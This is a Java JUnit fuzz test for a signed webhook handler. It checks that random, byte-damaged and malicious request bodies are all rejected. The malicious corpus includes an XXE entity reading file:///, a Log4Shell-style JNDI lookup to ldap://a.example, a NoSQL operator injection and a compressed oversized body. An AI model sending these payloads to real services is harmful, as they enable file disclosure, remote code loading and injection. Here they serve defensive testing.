package io.tidings.webhook;

import static io.tidings.webhook.CallbackScene.ATTEMPT;
import static io.tidings.webhook.CallbackScene.status;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;

class WebhookFuzzTest {
    private final CallbackScene scene = new CallbackScene();
    private final String target = scene.target(ATTEMPT);
    private final byte[] genuine = CallbackScene.form(status("delivered", Map.of("ErrorCode", "30008")));

    @Test
    void no_random_request_is_an_error_of_ours_or_changes_anything() {
        SplittableRandom random = new SplittableRandom(CallbackScene.seed());
        for (int i = 0; i < CallbackScene.times(20_000, 1_000_000); i++) {
            int status = scene.webhooks.handle(random(random)).status();
            assertThat(status).as("round %d", i).isIn(400, 403, 413);
        }
        assertThat(scene.sink.raw(ATTEMPT)).isEmpty();
        assertThat(scene.sink.orphans()).isEmpty();
    }

    @Test
    void a_damaged_form_with_a_right_signature_is_never_an_error_of_ours() {
        SplittableRandom random = new SplittableRandom(CallbackScene.seed());
        int kept = 0;
        int rounds = CallbackScene.times(20_000, 1_000_000);
        for (int i = 0; i < rounds; i++) {
            byte[] body = damaged(random, genuine);
            var form = FormBody.parse(body).orElse(List.of()).stream()
                    .map(parameter -> Map.entry(parameter.name(), parameter.value()))
                    .toList();
            int status = scene.webhooks
                    .handle(CallbackScene.post(target, scene.sign(target, form), body))
                    .status();
            assertThat(status).as("round %d", i).isIn(204, 400);
            kept += status == 204 ? 1 : 0;
        }
        assertThat(kept).as("some damage is in values that do not count").isBetween(1, rounds - 1);
    }

    @Test
    void a_malicious_corpus_is_refused() throws Exception {
        byte[] huge = new byte[10 * Webhooks.MAX_BODY_BYTES];
        var zipped = new java.io.ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(zipped)) {
            gzip.write(huge);
        }
        assertThat(answer(huge)).isEqualTo(413);
        assertThat(answer(zipped.toByteArray()))
                .as("compressed bodies are not opened")
                .isEqualTo(400);
        for (String body : List.of(
                "a=1&".repeat(10_000) + "a=1",
                "%".repeat(60_000),
                "&".repeat(60_000),
                "=".repeat(60_000),
                "MessageSid=%00",
                "MessageStatus=delivered%C0%80",
                "a=\u0000\u0001",
                "%ff%fe=1",
                "a=%ED%A0%BD%ED%B8%80",
                "MessageStatus[]=delivered&MessageStatus[$ne]=x",
                "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]><x>&y;</x>",
                "{\"MessageStatus\":\"delivered\"}",
                "${jndi:ldap://a.example/x}=1",
                "a".repeat(60_000) + "=1")) {
            assertThat(answer(body.getBytes(StandardCharsets.UTF_8)))
                    .as("%.40s", body)
                    .isIn(400, 403);
        }
        assertThat(scene.sink.raw(ATTEMPT)).isEmpty();
    }

    private int answer(byte[] body) {
        return scene.webhooks
                .handle(CallbackScene.post(target, "AAAAAAAAAAAAAAAAAAAAAAAAAAA=", body))
                .status();
    }

    private WebhookRequest random(SplittableRandom random) {
        String method = RandomRequests.pick(random, "POST", "GET", "PUT", "", "post", "\u0000");
        String path =
                random.nextBoolean() ? target : new String(damaged(random, bytes(target)), StandardCharsets.UTF_8);
        String right = scene.sign(target, status("read", Map.of()));
        Map<String, List<String>> headers = new HashMap<>();
        headers.put(
                RandomRequests.pick(random, "X-Twilio-Signature", "x-twilio-signature", "X-Signature", ""),
                List.of(RandomRequests.pick(random, right, "", "=", "\uD83D", right + "=", noise(random))));
        headers.put(
                RandomRequests.pick(random, "Content-Type", "CONTENT-TYPE"),
                List.of(RandomRequests.pick(
                        random, "application/x-www-form-urlencoded", "application/json", ";;;", noise(random))));
        headers.put("I-Twilio-Idempotency-Token", random.nextBoolean() ? List.of() : List.of(noise(random)));
        byte[] body = random.nextInt(3) == 0 ? bytes(noise(random)) : damaged(random, genuine);
        return new WebhookRequest(method, path, headers, body);
    }

    private static byte[] damaged(SplittableRandom random, byte[] good) {
        byte[] bad = good.clone();
        for (int i = random.nextInt(1, 4); i > 0; i--) {
            bad[random.nextInt(bad.length)] = (byte) random.nextInt(256);
        }
        return bad;
    }

    private static String noise(SplittableRandom random) {
        byte[] noise = new byte[random.nextInt(200)];
        random.nextBytes(noise);
        return new String(noise, StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
